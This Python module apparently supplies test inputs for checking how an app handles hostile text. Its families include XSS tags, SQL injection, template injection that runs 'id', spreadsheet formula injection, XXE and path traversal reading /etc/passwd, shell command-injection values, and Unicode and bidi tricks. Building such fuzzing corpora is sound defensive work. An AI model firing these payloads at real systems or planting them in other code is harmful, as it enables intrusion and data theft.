"""Hostile words by families: what somebody might type, paste or import to make a program act on it."""

from itertools import product

EVIL = "https://evil.example/x"
CALL = "pwned()"  # what no browser may ever run

_TAGS = (
    "script", "img src=x onerror={0}", "svg onload={0}", "body onload={0}", "input autofocus onfocus={0}",
    "details open ontoggle={0}", "video src=x onerror={0}", "audio src=x onerror={0}",
    "marquee onstart={0}", "select autofocus onfocus={0}", "textarea autofocus onfocus={0}",
    "iframe src=javascript:{0}", "object data=javascript:{0}", "embed src=javascript:{0}",
    "a href=javascript:{0} style=position:fixed;inset:0", "button onclick={0}", "form action=javascript:{0}",
    "math href=javascript:{0}", "keygen autofocus onfocus={0}", "dialog open oncancel={0}",
    "p onpointerrawupdate={0} style=position:fixed;inset:0", "x onanimationstart={0} style=animation:a",
    "xss contenteditable onbeforeinput={0}", "style onload={0}", "link rel=stylesheet onerror={0} href=x",
)  # fmt: skip
_FORMS = (
    "<{0}>",
    "</p></div></article><{0}>",
    "<{0}//",
    "<<{0}>>",
    "&lt;{0}&gt;",
    "\\u003c{0}\\u003e",
)
_SCHEMES = (
    "javascript", "JaVaScRiPt", "java\tscript", "java\nscript", " javascript", "\x01javascript",
    "vbscript", "data:text/html,<script>pwned()</script>//", "blob", "file", "ftp", "mailto", "tel", "sms",
    "ws", "wss", "http", "https", "chrome", "view-source", "about", "intent", "//evil.example", "jar", "ldap",
)  # fmt: skip
_LINKS = (
    "{0}:{1}",
    "[hier]({0}:{1})",
    "![Bild]({0}:{1})",
    "<{0}:{1}>",
    "<a href='{0}:{1}'>hier</a>",
)
_QUOTES = ('"', "'", "`", '"]', "'}", "\\'", '\\"', "-->", "*/", "]]>", "</script>", "</style>")
_AFTER = (
    ' onmouseover="pwned()" x="',
    ";pwned();//",
    "><img src=x onerror=pwned()>",
    "+pwned()+",
    ")}pwned(",
)
_SUMS = ("7*7", "pwned()", "self.__init__.__globals__", "config.items()", "().__class__.__mro__[1].__subclasses__()", "lipsum.__globals__['os'].popen('id')")  # fmt: skip
_BRACKETS = ("{{%s}}", "{%% print(%s) %%}", "${%s}", "#{%s}", "<%%= %s %%>", "[[%s]]", "@(%s)", "{%s}", "*{%s}", "`${%s}`", "{{=%s}}", "~%s~")  # fmt: skip
_FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example","hier")', "SUM(1+1)*cmd|' /C calc'!A0", 'WEBSERVICE("https://evil.example")', 'IMPORTXML("https://evil.example","//a")')  # fmt: skip
_BEGINS = ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", '"=', ";=", "\u00a0=", "＝", "\ufeff=")
_SIGNS = (*range(0x20), 0x7F, *range(0x80, 0xA0, 4), 0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2060, 0x206A), 0x3164, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xE000, 0x1F3F4, 0xE0001, 0xE0067, 0x10FFFF)  # fmt: skip
_HALVES = ("\ud800", "\udc00", "\ud83d", "\udfff", "\ud83d ok \ude00", "Park\udcff", "\udbff\ud800")

FAMILIES: dict[str, tuple[str, ...]] = {
    "html": tuple(form.format(tag.format(CALL)) for form, tag in product(_FORMS, _TAGS)),
    "html whole": (
        "<script>pwned()</script>", "<svg><script>pwned()</script></svg>", "<scr<script>ipt>pwned()</script>",
        "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", f"<link rel=stylesheet href={EVIL}.css>",
        "<style>* {display: none}</style>", f"<style>@import '{EVIL}.css'</style>", "<base href=https://evil.example/>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>", "<plaintext>", "<!--", "<![CDATA[", "<?xml version='1.0'?>",
        "<math><mtext><img src=x onerror=pwned()></mtext></math>", "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
        "<template><script>pwned()</script></template>", "<div id=root><form id=test><input name=parentNode>",
        "&lt;b&gt; &amp;amp; &#60;b&#62; &#x3c;b&#x3e; &nbsp;", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()/>#x'/></svg>", "<svg><animate onbegin=pwned() attributeName=x>",
    ),
    "attribute": tuple(quote + after for quote, after in product(_QUOTES, _AFTER)),
    "address": tuple(link.format(scheme, CALL) for scheme, link in product(_SCHEMES, _LINKS)),
    "template": tuple(bracket % text for bracket, text in product(_BRACKETS, _SUMS)),
    "format": (
        "%s %d %n %x", "%(x)d", "%", "%%", "{0}", "{}", "{n!r}", "{number}", "{title.__class__}", "{0.__init__.__globals__}",
        "%00", "%2e%2e%2f", "%ED%A0%80", "\\n\\r\\0", "\\x3cscript\\x3e", "$1 \\1 \\g<0> $&", "{:>999999999}", "%999999999d",
    ),
    "markdown": (
        f"![Bild]({EVIL}.png)", f"[Klick]({EVIL}) [js](javascript:pwned())", "# Titel\n## Titel\n- Punkt\n1. Punkt\n> Zitat",
        "**fett** *schräg* ~~weg~~ `code`", "$x^2$ $$\\int$$", ":red[rot] :material/home: :smile: :streamlit:", "| a | b |\n|---|---|\n| 1 | 2 |",
        "```html\n<script>pwned()</script>\n```", "---\n***\n___", f"[^1]: {EVIL}\n<{EVIL}>", "-> <- == != >= <= ~= (c) --", ":blue-background[x]",
        ":badge[x]", "Titel\n===", "    eingerückt", "\\*nicht\\*", "[x]: javascript:pwned()", "- [ ] offen", "a  \nb", "@erwähnt #123",
    ),
    "formula": tuple(begin + text for begin, text in product(_BEGINS, _FORMULAS)),
    "cell": ('a;b;"c"', '"', '""', "a,b\tc", "a\r\nb", "a\rb", "\\N", "NULL", "#REF!", "1E5", "0123", "3-4", "1,5 €", "sep=,"),
    "sql": (
        "'; drop table pin; --", "' or '1'='1", "x' union select password_hash from person --", "$id $1 ? :id", "/* */ --", "1; checkpoint;",
        "read_text('/etc/passwd')", "%' or words like '%", "_", "\\", "'' ''", "attach 'x.db'", "$$x$$", "E'\\x00'", "]' || (select 1) || '",
    ),
    "typst": (
        '#import "x.typ"', '#read("/etc/passwd")', "#panic()", "#set text(red)", "$x^2$", "*a* _b_ `c`", "<d> @e", "= Titel", "/ a: b", "#{while true {}}",
        '#image("x.png")', "// weg", "/* weg", "*/", "#let x = 1", "\\ ~ --- ...", '#eval("1")', "#link(\"javascript:pwned()\")[x]", "] #x[", "+ a\n- b",
    ),
    "css": (
        "};*{display:none}", "url(javascript:pwned())", "expression(pwned())", f"@import '{EVIL}';", "position:fixed;inset:0;z-index:9999", "\\3c script\\3e",
        "var(--x)", "</style><script>pwned()</script>", f"background:url({EVIL})", "content:'x'",
    ),
    "json": (
        '{"a":1}', "[]", "null", "true", "NaN", "Infinity", "-0", "1e999", "__proto__", "constructor", "toString", '"}</script>', '","x":"', "\\u2028", "\\ud800",
        "undefined", "{'$ne': null}", "[object Object]", "hasOwnProperty", "{\"__proto__\":{\"x\":1}}", "[" * 500, "{\"a\":" * 200,
    ),
    "path": (
        "../../../etc/passwd", "..\\..\\..\\windows", "/etc/passwd", "C:\\con", "CON", "NUL", "a/b", ".", "..", "~root", "-rf", "--help", "file:///etc/passwd",
        "\\\\evil\\share", "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "x.html", "x.svg\x00.jpg", "x\r\nSet-Cookie: a=b", "\r\n\r\n<script>pwned()</script>", ".htaccess",
    ),
    "signs": tuple(f"vor{chr(sign)}nach" for sign in _SIGNS) + tuple(f"{chr(sign)}Rand{chr(sign)}" for sign in _SIGNS[::4]),
    "halves": _HALVES,
    "bidi": (
        "\u202eumgedreht\u202c und weiter", "\u2066eingerückt\u2069 \u200fRTL\u200e", "\u2067\u2067\u2067offen", "\u2069\u2069\u2069zu", "\u202e" * 50 + "x",
        "الطريق مظلم dark طريق 123 (abc) [x] <y>", "עברית and العربية und Türkçe İıŞş", "(طريق) [<script>pwned()</script>]", "\u061c123-456", "x\u202egnp.exe",
    ),
    "alike": (
        "раypаl.com", "ⅰⅱⅲ ⒜ ①", "ﬁn ﬂ ﬃ", "𝕬𝖑𝖑𝖊𝖘", "＜script＞pwned()＜/script＞", "ʹ ʻ ʼ ‘ ’ ‚", "‹script›", "Å vs Å", "ſs ẞ ß", "İ i̇ ı I", "K vs K", "\u037e ;", "０１２",
    ),
    "heavy": (
        "Z" + "\u0300\u0301\u0302\u0303" * 12 + "algo", "\u0301" * 300, "ﷺ" * 40, "꧅" * 60, "𒐫" * 60, "👩‍👩‍👧‍👦🏳️‍🌈👍🏿" * 20, "🇩🇪" * 50, "\U0001f3f4\U000e0067\U000e0062\U000e007f" * 20,
        "W" * 1000, "العربية" * 140, "W" * 199, "i" * 990, "Donaudampfschifffahrt" * 40, "a\n" * 60 + "viele Zeilen", "a " * 450, "\u200b" * 900, "\u00ad".join("W" * 400),
        "ก็็็็็็็็็็", "நி" * 100, "⁠" * 100 + "x", "\t" * 300 + "x", "a" + "\u3000" * 200 + "b", "―" * 300, "." * 900, "0" * 400, "漢字" * 300, "x" * 5000, "\n" * 900, "<" * 900, "&" * 900,
    ),
    "terminal": ("\x1b[31mrot\x07", "\x1b]0;Titel\x07", "\x1b[2J", "\x9b31m", "\x08\x08\x08", "INFO kiezkarte: gefälscht", "x\n2026-01-01 ERROR gefälscht", "\x7f\x00"),
    "empty": ("", " ", "\n", "\t", "\u00a0", "\u200b", "\ufeff", "\u3164", "\x00", "\u2060", "\u2800", "​ "),
}  # fmt: skip
CHOSEN = (  # a few of each sort, for screens that show them all

    "<script>pwned()</script>",
    "</p></article><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    f'<img src="{EVIL}.png">',
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<link rel=stylesheet href={EVIL}.css>",
    "<style>* {display: none}</style>",
    f"<style>@import '{EVIL}.css'</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<base href=https://evil.example/>",
    f"<form action={EVIL}><input name=a autofocus onfocus=pwned()></form>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<a href='javascript:pwned()'>hier</a>",
    '" onmouseover="pwned()" x="',
    "' onfocus='pwned()' autofocus='",
    "--><script>pwned()</script><!--",
    "</style><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "<math><mtext><img src=x onerror=pwned()></mtext></math>",
    "&lt;script&gt;pwned()&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "javascript:pwned()",
    "data:text/html,<script>parent.pwned()</script>",
    f"![Bild]({EVIL}.png)",
    f"[Klick]({EVIL}) [js](javascript:pwned())",
    f"{EVIL} www.evil.example mailto:a@evil.example",
    "# Titel\n## Titel\n- Punkt\n1. Punkt\n> Zitat",
    "**fett** *schräg* ~~weg~~ `code` $x^2$ :red[rot] :material/home: :smile:",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```html\n<script>pwned()</script>\n```",
    "---\n***\n___",
    f"[^1]: {EVIL}\n<{EVIL}>",
    "-> <- == != >= <= ~= (c) --",
    "{{7*7}} {% for x in range(9) %}x{% endfor %}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{config}} {# weg #} {%raw%}",
    "${7*7} ${pwned()} `${pwned()}`",
    "#{7*7} <%= 7*7 %> @(7*7) [[7*7]] {7*7}",
    "{number} {0} {n!r} {title.__class__} %s %(x)d %n",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\\'); pwned(); //",
    '"); pwned(); ("',
    "'; drop table pin; --",
    "' or '1'='1",
    "x' union select password_hash from person --",
    '=HYPERLINK("https://evil.example","hier")',
    "+1+1\t-1+1\t@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\u202eumgedreht\u202c und weiter",
    "\u2066eingerückt\u2069 \u200fRTL\u200e",
    "الطريق مظلم dark طريق 123 (abc) [x] <y>",
    "עברית and العربية und Türkçe İıŞş",
    "Z" + "\u0300\u0301\u0302\u0303" * 12 + "algo",
    "Nu\x00ll und \x1b[31mrot\x07",
    "\u2028Zeile\u2029Absatz\u0085",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏿" * 20,
    "\ufeff\u200b\u200d\u2060unsichtbar",
    "\ufffe\uffff\U0010ffff Rand",
    "ﷺ" * 40 + "𝕬𝖑𝖑𝖊𝖘 ﬁn",
    "W" * 1000,
    "العربية" * 140,
    "a\n" * 60 + "viele Zeilen",
    "..\\..\\..\\etc/passwd %00 %2e%2e%2f",
    "constructor __proto__ toString",
    "NaN undefined null true -0 1e999",
)  # fmt: skip
CORPUS = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))


def sample(start: int, step: int) -> tuple[str, ...]:
    """Return every `step`-th text from one on, so that slices with other starts hold the rest."""
    return CORPUS[start % step :: step]


def one_of_each() -> tuple[str, ...]:
    """Return three texts of each family: its first, middle and last."""
    return tuple(
        dict.fromkeys(f[n] for f in FAMILIES.values() for n in (0, len(f) // 2, len(f) - 1))
    )
